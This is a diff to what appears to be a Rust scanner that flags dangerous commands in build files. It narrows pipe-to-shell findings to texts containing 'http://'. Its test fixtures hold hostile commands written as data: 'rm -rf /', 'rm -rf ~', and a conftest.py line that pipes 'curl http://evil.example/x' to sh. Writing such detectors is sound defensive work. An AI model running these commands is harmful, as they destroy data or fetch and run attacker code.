@@ -133,7 +133,16 @@ pub(super) fn look(recipe: Recipe, text: &str, seen: &mut Seen) {
         let mut nested = Vec::new();
         code::look(text, &mut here, &mut nested);
         look_at_nested(nested, &mut here);
-        keep_grave(here, text, seen);
+        // How its language fetches is not followed here; that it does so in the open shows in the address.
+        if !text.contains("http://") {
+            here.dangers.retain(|(danger, _, _)| *danger != Danger::PipeToShell);
+        }
+        seen.work += here.work;
+        for (danger, span, what) in here.dangers {
+            if danger == Danger::PipeToShell || is_grave(danger, text) {
+                seen.add_at(danger, span, what);
+            }
+        }
     }
     for (job, span) in recipe.jobs(text) {
         let mut here = Seen {
@@ -410,6 +419,7 @@ mod tests {
             ("Jenkinsfile", "stage('x') { steps { sh 'rm -rf /' } }"),
             ("ci/Jenkinsfile.release", "sh(script: '''\n  make\n  rm -rf /\n''')"),
             ("setup.py", "import os\nos.system('rm -rf ~')\n"),
+            ("conftest.py", "import os; os.system('curl http://evil.example/x|sh')\n"),
         ] {
             assert!(!seen(path, text).is_empty(), "{path}: {text}");
         }
